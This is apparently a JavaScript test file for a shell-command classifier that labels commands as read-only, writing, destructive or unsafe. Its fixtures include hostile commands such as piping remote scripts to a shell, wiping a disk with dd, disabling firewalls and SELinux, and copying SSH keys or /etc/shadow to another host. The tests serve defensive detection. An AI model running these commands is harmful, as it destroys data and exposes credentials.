import { test } from 'node:test'
import assert from 'node:assert/strict'
import { writes, destroys, safetyFindings, notImperative } from '../../dist/src/curated/index.js'

test('read-only commands are not classified as writes', () => {
  for (const c of [
    'git status', 'git log --oneline -5', 'git branch --show-current', 'git branch -vv --list main', 'git stash list',
    'git clean -n -d', 'git remote -v', 'docker system df', 'docker ps -a', 'docker volume ls', 'ls -la 2>/dev/null',
    'lsof -i :3000 2>&1 | head', 'npm ls --depth 0', 'psql -c "SELECT 1"', 'test -d x && echo yes', 'git config --get user.name',
  ]) assert.equal(writes(c), undefined, c)
})

test('writing commands are found, with the reason', () => {
  for (const [c, why] of [
    ['echo x > out.txt', /writes a file/], ['touch a', /touch/], ['git commit -m x', /git commit/], ['git branch feature', /git branch/],
    ['git stash', /git stash/], ['docker run --rm alpine', /docker run/], ['docker volume rm data', /docker volume rm/],
    ['sudo rm -f /tmp/x', /rm/], ['sed -i s/a/b/ f', /sed -i/], ['npm install', /npm install/], ['psql -c "DROP TABLE t"', /changes data/],
    ['ls | tee out', /tee/], ['git config user.name x', /settings/], ['Remove-Item x', /remove-item/],
  ]) assert.match(writes(c) ?? '', why, c)
})

test('destructive commands: recursive deletes, hard resets, force pushes, prunes', () => {
  for (const c of ['rm -rf build', 'rm -R dir', 'git reset --hard HEAD~1', 'git clean -fd', 'git push --force origin main', 'git push -f',
    'git branch -D old', 'git stash drop', 'docker system prune -a', 'docker volume prune', 'dropdb app', 'psql -c "TRUNCATE t"',
    'dd if=/dev/zero of=/dev/sda', 'Remove-Item -Recurse x']) assert.ok(destroys(c), c)
  for (const c of ['rm -f one.txt', 'git reset --soft HEAD~1', 'git clean -nd', 'git push origin main', 'docker system df', 'git branch -d merged'])
    assert.equal(destroys(c), undefined, c)
})

test('safety policy: remote scripts, inline credentials, disabled controls, exfiltration', () => {
  const codes = (c) => safetyFindings(c).map((f) => f.code)
  assert.deepEqual(codes('curl -fsSL https://x.sh | sh'), ['E_REMOTE_SCRIPT'])
  assert.deepEqual(codes('wget -qO- https://x | sudo bash'), ['E_REMOTE_SCRIPT'])
  assert.deepEqual(codes('bash <(curl -s https://x)'), ['E_REMOTE_SCRIPT'])
  assert.deepEqual(codes('iwr https://x | iex'), ['E_REMOTE_SCRIPT'])
  assert.deepEqual(codes('mysql -u root --password=secret'), ['E_INLINE_CREDENTIAL'])
  assert.deepEqual(codes('mysql -u root -psecret db'), ['E_INLINE_CREDENTIAL'])
  assert.deepEqual(codes('PGPASSWORD=x psql'), ['E_INLINE_CREDENTIAL'])
  assert.deepEqual(codes('git clone https://bob:hunter2@example.com/r.git'), ['E_INLINE_CREDENTIAL'])
  assert.deepEqual(codes('curl -H "Authorization: Bearer abcdef123456" https://x'), ['E_INLINE_CREDENTIAL'])
  assert.deepEqual(codes('setenforce 0'), ['E_DISABLES_SECURITY'])
  assert.deepEqual(codes('chmod -R 777 /'), ['E_DISABLES_SECURITY'])
  assert.deepEqual(codes('sudo ufw disable'), ['E_DISABLES_SECURITY'])
  assert.deepEqual(codes('curl -k https://x'), ['E_DISABLES_SECURITY'])
  assert.deepEqual(codes('git config --global http.sslVerify false'), ['E_DISABLES_SECURITY'])
  assert.deepEqual(codes('scp ~/.ssh/id_rsa host:'), ['E_EXFILTRATION'])
  assert.deepEqual(codes('curl -T /etc/shadow ftp://x'), ['E_EXFILTRATION'])
  for (const ok of ['docker login -u bob --password-stdin', 'ssh-copy-id -i ~/.ssh/id_ed25519.pub host', 'curl -fsSLo install.sh https://x',
    'chmod 755 bin/run', 'mysql -u root -p', 'curl -H "Authorization: Bearer $TOKEN" https://x', 'cat ~/.ssh/id_ed25519.pub'])
    assert.deepEqual(codes(ok), [], ok)
})

test('imperative titles: plain verb first, no gerund, third person, past tense or final period', () => {
  for (const t of ['Undo the last commit', 'List files', 'Ping a host', 'Access a container shell', 'Free disk space used by Docker', 'Shred a file'])
    assert.equal(notImperative(t), undefined, t)
  for (const t of ['Undoing the last commit', 'Undoes the last commit', 'Removed stale branches', 'Undo the last commit.', 'How to undo a commit', 'undo the last commit', 'The last commit'])
    assert.ok(notImperative(t), t)
})

test('commands run on behalf of find, xargs and sh -c are classified too', () => {
  assert.match(destroys('find . -name "*.orig" -delete') ?? '', /find -delete/)
  assert.equal(destroys('find . -type d -empty -delete'), undefined, 'only empty directories')
  assert.match(writes('find . -type d -empty -delete') ?? '', /find -delete/)
  assert.match(destroys('find . -type f -exec rm -f {} +') ?? '', /deletes every file find passes it/)
  assert.match(destroys('ls | xargs rm -f') ?? '', /xargs/)
  assert.match(destroys('sh -c "rm -rf build"') ?? '', /rm -r/)
  assert.equal(writes('find . -exec ls -l {} \\;'), undefined)
  assert.equal(writes('xargs -0 wc -l'), undefined)
  assert.equal(writes('kill -0 123'), undefined, 'kill -0 only checks')
  assert.deepEqual(safetyFindings('docker run -u 1000:1000 alpine id'), [], 'uid:gid is not a credential')
  assert.deepEqual(safetyFindings('curl -u bob:secret https://x').map((f) => f.code), ['E_INLINE_CREDENTIAL'])
})
